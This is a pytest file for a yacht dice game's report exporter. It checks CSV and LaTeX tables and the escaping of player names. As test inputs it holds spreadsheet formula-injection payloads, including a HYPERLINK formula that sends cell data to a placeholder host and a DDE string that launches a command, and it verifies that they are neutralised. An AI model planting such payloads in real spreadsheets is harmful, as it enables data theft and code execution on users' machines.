"""The report's tables as CSV and LaTeX: every figure with its interval and n, the filters in the header."""

from __future__ import annotations

import csv
import dataclasses

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from yacht_play.records import GameRecord
from yacht_play.report import latex, tabulations
from yacht_play.report.build import DecisionPositions, GradedDecisions, agents_graded, build_report
from yacht_play.report.filters import Filters
from yacht_play.report.results import Estimate
from yacht_play.report.text import text_lines


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    """A report of two duplicate games against greedy by a person who always plays the optimum, through the API."""
    pytest.importorskip("starlette", reason="the serve tests need the serve extra: pip install 'yacht-rl[serve]'")
    from tests.yacht_play.test_serve_api import TestClient
    from yacht_play import store
    from yacht_play.serve.app import create_app
    from yacht_play.serve.games import GameService
    from yacht_play.simulate import Chooser, Played, run_sync

    deals = np.random.default_rng(7)  # the server's dice, seeded: one fixed draw
    patch = pytest.MonkeyPatch()
    patch.setattr("yacht_play.serve.games.secrets.randbits", lambda bits: int(deals.integers(0, 2**bits)))
    service = GameService(store.connect(str(tmp_path_factory.mktemp("tables") / "yacht.db")), ["greedy"])
    with TestClient(create_app(service)) as client:
        chooser = Chooser(0.0, np.random.default_rng(0))
        for _ in range(2):
            assert not run_sync(client, chooser, Played("ann & <b>", "duplicate", ["greedy"])).errors
    patch.undo()
    games = store.all_games(service.engine, finished_only=True)
    return build_report(games, Filters(player="ann & <b>"), service.grader)


def test_one_csv_per_table_with_interval_columns_and_the_filters(tmp_path, report):
    names = tabulations.save_csv(tmp_path / "tables", report)
    assert set(names) >= {"ratings.csv", "likeness.csv", "skill.csv", "people.csv", "agents_vs_people.csv"}
    text = (tmp_path / "tables" / "people.csv").read_text()
    comments = [line for line in text.splitlines() if line.startswith("#")]
    assert any("filters: player=ann & <b>" in line for line in comments)
    rows = list(csv.DictReader(line for line in text.splitlines() if not line.startswith("#")))
    assert rows[0]["name"] == "ann & <b>" and rows[0]["temperature"] == "0.0" and rows[0]["temperature_low"] == "0.0"
    assert {"loss", "loss_low", "loss_high", "loss_n", "temperature_high", "temperature_n"} <= set(rows[0])
    assert int(rows[0]["temperature_n"]) == report.skill.players[0].temperature.n > 0
    lines = (tmp_path / "tables" / "ratings.csv").read_text().splitlines()
    ratings = list(csv.DictReader(line for line in lines if not line.startswith("#")))
    assert {r["name"] for r in ratings} == {"ann & <b>", "greedy"} and all(r["rating_n"] == "2" for r in ratings)
    ann = next(p.rating for p in report.ratings.players if p.name == "ann & <b>")
    row = next(r for r in ratings if r["name"] == "ann & <b>")
    assert [float(row[k]) for k in ("rating", "rating_low", "rating_high")] == [ann.mean, ann.low, ann.high]
    lines = (tmp_path / "tables" / "agents_graded.csv").read_text().splitlines()
    greedy = next(csv.DictReader(line for line in lines if not line.startswith("#")))
    loss = report.agents_graded[0].all
    assert [float(greedy[k]) for k in ("loss", "loss_low", "loss_high")] == [loss.mean, loss.low, loss.high]
    assert loss.low < loss.mean < loss.high and int(greedy["loss_n"]) == loss.n


def test_a_tabulation_and_the_positions_it_is_made_from_cannot_be_changed_once_made(report):
    # one tabulation is written as CSV and as LaTeX: neither writer may change what the other writes
    for made in (tabulations.tabulations(report)[0], DecisionPositions(*[np.zeros(1, dtype=np.int64)] * 6)):
        with pytest.raises(dataclasses.FrozenInstanceError):
            made.__setattr__(dataclasses.fields(made)[0].name, None)


def test_latex_escapes_names_and_gives_intervals_and_n(tmp_path, report):
    path = tmp_path / "tables.tex"
    latex.save_latex(path, report)
    text = path.read_text()
    assert text.count("\\begin{tabular}") == len(tabulations.tabulations(report))
    assert "ann \\& $<$b$>$" in text and "ann & <b>" not in text.split("\n", 1)[1]  # only the % comment line is raw
    assert "player=ann \\& $<$b$>$" in text  # the caption names the filters
    rated = next(line for line in text.splitlines() if line.startswith("2 & greedy") or line.startswith("1 & greedy"))
    assert rated.endswith("& 2 \\\\") and "$n$" in text  # the rating and its n (2 games)


def figure_of(mean, low, high, n) -> Estimate:
    return Estimate(mean, low, high, n, "games")


def test_a_figure_without_interval_or_mean():
    assert latex.latex_figure(figure_of(0.5, None, None, 3), False) == ("0.500", "3")
    assert latex.latex_figure(figure_of(0.5, 0.4, 0.6, 30), True) == (
        "50.0\\% [40.0\\%, 60.0\\%]",
        "30",
    )
    assert latex.latex_figure(figure_of(None, None, None, 0), False) == ("--", "0")
    assert latex.latex_figure(figure_of(2.0, 1.0, None, 30), False) == ("2.000 [1.000, --]", "30")
    assert latex.latex_figure(None, False) == ("--", "")
    lines = tabulations.header_lines(build_report([], Filters(player="a\nb")))
    assert "filters: player=a b;" in lines[1] and all("\n" not in line for line in lines)


def test_yacht_report_writes_the_tables_and_refuses_bad_names_in_one_line(tmp_path, capsys):
    pytest.importorskip("sqlalchemy", reason="the store needs the serve extra")
    from yacht_play import store
    from yacht_play.cli import main

    database = str(tmp_path / "empty.db")
    store.connect(database).dispose()
    assert main(["report", "--db", database, "--csv", str(tmp_path / "csv"), "--latex", str(tmp_path / "t.tex")]) == 0
    assert (tmp_path / "csv" / "ratings.csv").read_text().startswith("# Ratings") and (tmp_path / "t.tex").exists()
    capsys.readouterr()
    assert main(["report", "--db", database, "--policy", "bogus"]) == 2
    refused = capsys.readouterr().err
    assert refused.startswith("yacht report: unknown policy 'bogus'; expected one of random,") and refused.count("\n") == 1
    (tmp_path / "a-file").write_text("")
    assert main(["report", "--db", database, "--csv", str(tmp_path / "a-file")]) == 2
    error = capsys.readouterr().err
    assert error == f"yacht report: cannot write {tmp_path / 'a-file'}: it is a regular file, not a folder; give a folder path\n"


def test_the_text_gives_the_people_s_loss_over_people_and_pooled_for_each_kind_of_choice(report):
    lines = text_lines(report)
    ann = report.people.players[0]  # the one person, who always plays the optimum: no loss anywhere
    for title, key in (("all decisions", "all"), ("re-roll choices", "reroll"), ("row choices", "row")):
        (line,) = [line for line in lines if line.startswith(f"  {title}: over people ")]
        n = getattr(ann, key).n
        assert line == (
            f"  {title}: over people 0.000 (n=1; too few people for an interval (n=1 < 10)); "
            f"pooled 0.000 (n={n}; one person only: no interval over a population (people=1 < 2))"
        )
    assert ann.reroll.n + ann.row.n == ann.all.n and ann.row.n == 2 * 12  # two games, 12 rows each


@given(st.lists(st.tuples(st.booleans(), st.integers(0, 40)), min_size=1, max_size=30))
@example([(False, 4), (False, 8), (True, 1)])  # re-rolls lose 6 on average, the one row choice 1
def test_an_agent_s_loss_splits_into_its_re_roll_choices_and_its_row_choices(choices):
    players = [
        {"seat": 0, "name": "ann", "kind": "human", "policy": None, "seed": 0},
        {"seat": 1, "name": "greedy", "kind": "agent", "policy": "greedy", "seed": 0},
    ]
    game = GameRecord({"game_id": "g", "mode": "table", "rules": "yacht", "time": "", "players": players}, [], None)
    person = [(True, 100), (False, 100)]  # the person's decisions, never the agent's
    seats = [0] * len(person) + [1] * len(choices)
    everything = person + choices
    decisions = GradedDecisions(
        records=[{"game_id": "g", "seat": s} for s in seats],
        loss=np.array([loss / 4 for _, loss in everything]),
        kind=np.array(["human" if s == 0 else "agent" for s in seats]),
        is_row=np.array([row for row, _ in everything], dtype=bool),
        player=np.array([players[s]["name"] for s in seats], dtype=object),
        game_of=np.array(["g"] * len(seats), dtype=object),
        q=np.zeros((len(seats), 0)),
        positions=DecisionPositions(*[np.zeros(0, dtype=np.int64)] * 6),  # agents_graded reads no position
    )
    (greedy,) = agents_graded([game], decisions)
    assert greedy.policy == "greedy" and greedy.games == 1
    for key, kept in (("all", lambda row: True), ("reroll", lambda row: not row), ("row", lambda row: row)):
        losses = [loss / 4 for row, loss in choices if kept(row)]
        assert getattr(greedy, key).n == len(losses)
        assert getattr(greedy, key).mean == (pytest.approx(sum(losses) / len(losses)) if losses else None)


# -- names written by people, on their way into spreadsheets and TeX ------------------------------------------------

ISSUE_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "#ann", "r&c %_#xy"]
ISSUE_NAMES += ["[100cm]", "*starred", "'quoted", "NA"]


@pytest.fixture(scope="module")
def named_tables(tmp_path_factory):
    """``yacht report --csv --latex`` over imported table games, one per name of :data:`ISSUE_NAMES` (each person
    against greedy, choosing the last legal action every time).
    """
    pytest.importorskip("sqlalchemy", reason="the store needs the serve extra")
    from yacht_play import store
    from yacht_play.cli import main
    from yacht_play.match import Match, Player
    from yacht_play.serve.games import GameService

    folder = tmp_path_factory.mktemp("named")
    service = GameService(store.connect(str(folder / "yacht.db")), [])
    for seed, name in enumerate(ISSUE_NAMES, 100):
        match = Match.new([Player(name), Player("greedy", "agent", "greedy")], seed=seed, mode="table")
        while not match.finished:
            if match.current.kind == "agent":
                match.play_agent()
            else:
                match.play(int(np.flatnonzero(match.current.legal_mask())[-1]), 1.0)
        assert service.import_game(match.game_record())
    command = ["report", "--db", str(folder / "yacht.db"), "--include-imported"]
    assert main([*command, "--csv", str(folder / "csv"), "--latex", str(folder / "t.tex")]) == 0
    return folder


@pytest.mark.parametrize("table, column", [("people", "name"), ("ratings", "name")])
def test_every_name_reads_back_exactly_and_none_is_a_live_formula(named_tables, table, column):
    path = named_tables / "csv" / f"{table}.csv"
    names = [row[column] for row in tabulations.read_csv_file(path).rows]
    assert sorted(set(names) - {"greedy"}) == sorted(ISSUE_NAMES)
    for line in path.read_text().splitlines():
        if not line.startswith("#") and column == "name" and table == "people":
            assert line.startswith('"') and line[1] not in "=+-@\t\r"  # quoted text that no spreadsheet runs
    if table == "people":
        pandas = pytest.importorskip("pandas")
        frame = pandas.read_csv(path, comment="#")  # a # in a name, quoted, starts no comment: every row is there
        assert len(frame) == len(ISSUE_NAMES) and {"#ann", "r&c %_#xy"} <= set(frame["name"])


def test_no_latex_row_starts_with_an_optional_argument_or_a_star(named_tables):
    text = (named_tables / "t.tex").read_text()
    assert "{[}100cm{]} & " in text and "{*}starred & " in text
    assert not [line for line in text.splitlines() if line.startswith(("[", "*"))]


LATEX_OF = {"~": "\\textasciitilde{}", "\\": "\\textbackslash{}", "^": "\\^{}", "<": "$<$", ">": "$>$"}
LATEX_OF |= {c: "{" + c + "}" for c in "[]*"} | {c: "\\" + c for c in "&%$#_{}"}
LATEX_TOKENS = sorted(LATEX_OF.items(), key=lambda item: -len(item[1]))


def latex_unescaped(text: str) -> str:
    """The text ``latex.latex_escape`` was given (its control characters as their escapes); ValueError if any markup
    is left that is not one of the escapes.
    """
    out, at = [], 0
    while at < len(text):
        char, token = next(((c, t) for c, t in LATEX_TOKENS if text.startswith(t, at)), (text[at], text[at]))
        if token == char and char in LATEX_OF:
            raise ValueError(f"an unescaped {char!r} at {at}")
        out.append(char)
        at += len(token)
    return "".join(out)


@given(st.text(max_size=40))
@example("[100cm]")
@example("*")
@example("cr\rname\x00\x1b]0;x\x07\u202e")
@example("\\{}$&%#_~^<>[]*")
def test_latex_escaping_leaves_no_markup_and_no_control_character(text):
    from yacht_env.safe_text import is_unsafe

    escaped = latex.latex_escape(text)
    assert not any(is_unsafe(char) for char in escaped)
    assert escaped.startswith(("{[}", "{*}")) or not escaped.startswith(("[", "*"))
    from yacht_env.safe_text import escaped_controls

    assert latex_unescaped(escaped) == escaped_controls(text)  # nothing lost, nothing read as markup


def test_a_player_filter_that_is_not_utf8_is_refused_in_one_line(tmp_path, capsys):
    pytest.importorskip("sqlalchemy", reason="the store needs the serve extra")
    import os

    from yacht_play import store
    from yacht_play.cli import main

    database = str(tmp_path / "empty.db")
    store.connect(database).dispose()
    player = os.fsdecode(b"a\xffb")  # what a shell's $'a\xffb' arrives as
    assert main(["report", "--db", database, "--player", player, "--latex", str(tmp_path / "t.tex")]) == 2
    error = capsys.readouterr().err
    said = "--player 'a\\udcffb': '\\udcff' is a lone surrogate, which no player's name holds (names are UTF-8 text)"
    assert error == f"yacht report: {said}\n"
    assert not (tmp_path / "t.tex").exists()
    report = build_report([], Filters(player=player))
    text = tabulations.csv_file_text(report, tabulations.tabulations(report)[0])  # the writers escape it anyway
    assert "player=a\\udcffb" in text.encode("utf-8").decode()
    assert latex.latex_escape(player) == "a\\textbackslash{}udcffb"


def test_the_likeness_table_lists_every_measured_policy_by_band_and_the_ratings_rank_from_one():
    from yacht_play.report.results import Anchor, BandLikeness, PolicyLikeness, PolicyNotMeasured, RatedPlayer

    report = build_report([])
    top1, rating = Estimate(0.5, 0.25, 0.75, 40, "decisions"), Estimate(1500.0, 1400.0, 1600.0, 3, "games")
    bands = (BandLikeness("expert", 2, top1, None), BandLikeness("novice", 0, top1, None))  # a band of nobody: no row
    likeness = (PolicyNotMeasured("win", 40, "plays only at a table"), PolicyLikeness("greedy", 40, top1, None, bands))
    players = (RatedPlayer("ann", "human", rating), RatedPlayer("greedy", "agent", rating))
    report = dataclasses.replace(report, likeness=likeness, ratings=dataclasses.replace(report.ratings, players=players))
    _, like, rated = tabulations.skill_tabulations(report)
    people = report.skill.population.people
    assert like.rows == [["greedy", "all", people, top1, None], ["greedy", "expert", 2, top1, None]]
    assert [row[:3] for row in rated.rows] == [[1, "ann", "human"], [2, "greedy", "agent"]]
    # the scale's anchor named in the title: the anchor policy, or the mean where the games had none
    for anchor, named in ((Anchor("greedy", 1500.0), "greedy = 1500"), (Anchor(None, 1500.0), "mean = 1500")):
        ratings = dataclasses.replace(report.ratings, anchor=anchor)
        title = tabulations.skill_tabulations(dataclasses.replace(report, ratings=ratings))[2].title
        assert title.startswith(f"Ratings: Bradley-Terry, Elo scale, {named}; ")
